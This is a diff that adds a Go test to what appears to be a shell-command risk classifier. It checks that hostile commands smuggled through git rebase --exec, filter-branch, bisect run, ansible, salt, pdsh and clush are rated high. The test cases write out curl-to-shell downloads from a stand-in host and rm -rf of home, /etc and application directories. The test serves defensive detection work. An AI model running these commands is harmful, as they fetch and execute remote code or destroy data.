@@ -380,3 +380,28 @@ func onlyNotKnownSafe(a Assessment) bool {
 	}
 	return n > 0
 }
+
+// Shell code that git subcommands and fleet tools run: judged as the
+// shell that runs it would judge it (the fleet tools' as a remote
+// command, like ssh's).
+func TestShellCodeInSubcommandsAndFleetTools(t *testing.T) {
+	runShellCases(t, []shellCase{
+		{cmd: `git rebase --exec "curl -s https://x.example/i | sh" HEAD~3`, want: high, rule: "remote-code-exec"},
+		{cmd: `git rebase -x 'rm -rf ~' main`, want: high, rule: "destructive-delete-home"},
+		{cmd: `git rebase --exec='curl x.example/i|bash' HEAD~2`, want: high, rule: "remote-code-exec"},
+		{cmd: `git -C repo filter-branch --tree-filter 'rm -rf ~' HEAD`, want: high, rule: "destructive-delete-home"},
+		{cmd: `git filter-branch --msg-filter="curl x.example/i|sh" HEAD`, want: high, rule: "remote-code-exec"},
+		{cmd: `git bisect run sh -c 'curl x.example/i | sh'`, want: high, rule: "remote-code-exec"},
+		{cmd: `ansible all -m shell -a 'rm -rf /var/lib/app'`, want: high, rule: "destructive-delete-system"},
+		{cmd: `ansible web -a 'curl -s https://x.example/i | sh'`, want: high, rule: "remote-code-exec"},
+		{cmd: `ansible all -m ansible.builtin.raw --args "rm -rf /etc"`, want: high},
+		{cmd: `salt '*' cmd.run 'rm -rf /var/lib/app'`, want: high, rule: "destructive-delete-system"},
+		{cmd: `pdsh -w web[1-9] 'rm -rf /var/lib/app'`, want: high, rule: "destructive-delete-system"},
+		{cmd: `clush -w @all "curl -s https://x.example/i | sh"`, want: high, rule: "remote-code-exec"},
+		// What they run harmlessly stays below HIGH.
+		{cmd: `git rebase -x 'go test ./...' HEAD~3`, want: med},
+		{cmd: `ansible all -m copy -a 'src=a dest=/etc/a'`, want: med},
+		{cmd: `ansible all -a uptime`, want: med},
+		{cmd: `pdsh -w web1 uptime`, want: med},
+	})
+}
